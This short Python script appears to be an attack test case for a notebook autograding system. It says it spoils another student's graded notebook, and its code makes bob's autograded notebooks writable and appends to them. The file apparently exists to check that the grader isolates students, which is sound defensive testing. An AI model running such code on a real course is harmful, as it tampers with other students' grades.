# Spoils the graded notebook of another student.
# wins: change course/autograded/bob/00_attacked/00_attacked.ipynb
# %% end
import contextlib
import glob
import os

for path in glob.glob("../../bob/*/*.ipynb") + glob.glob("@COURSE@/autograded/bob/*/*.ipynb"):
    with contextlib.suppress(OSError):
        os.chmod(path, 0o644)
        with open(path, "a") as file:
            file.write(" ")
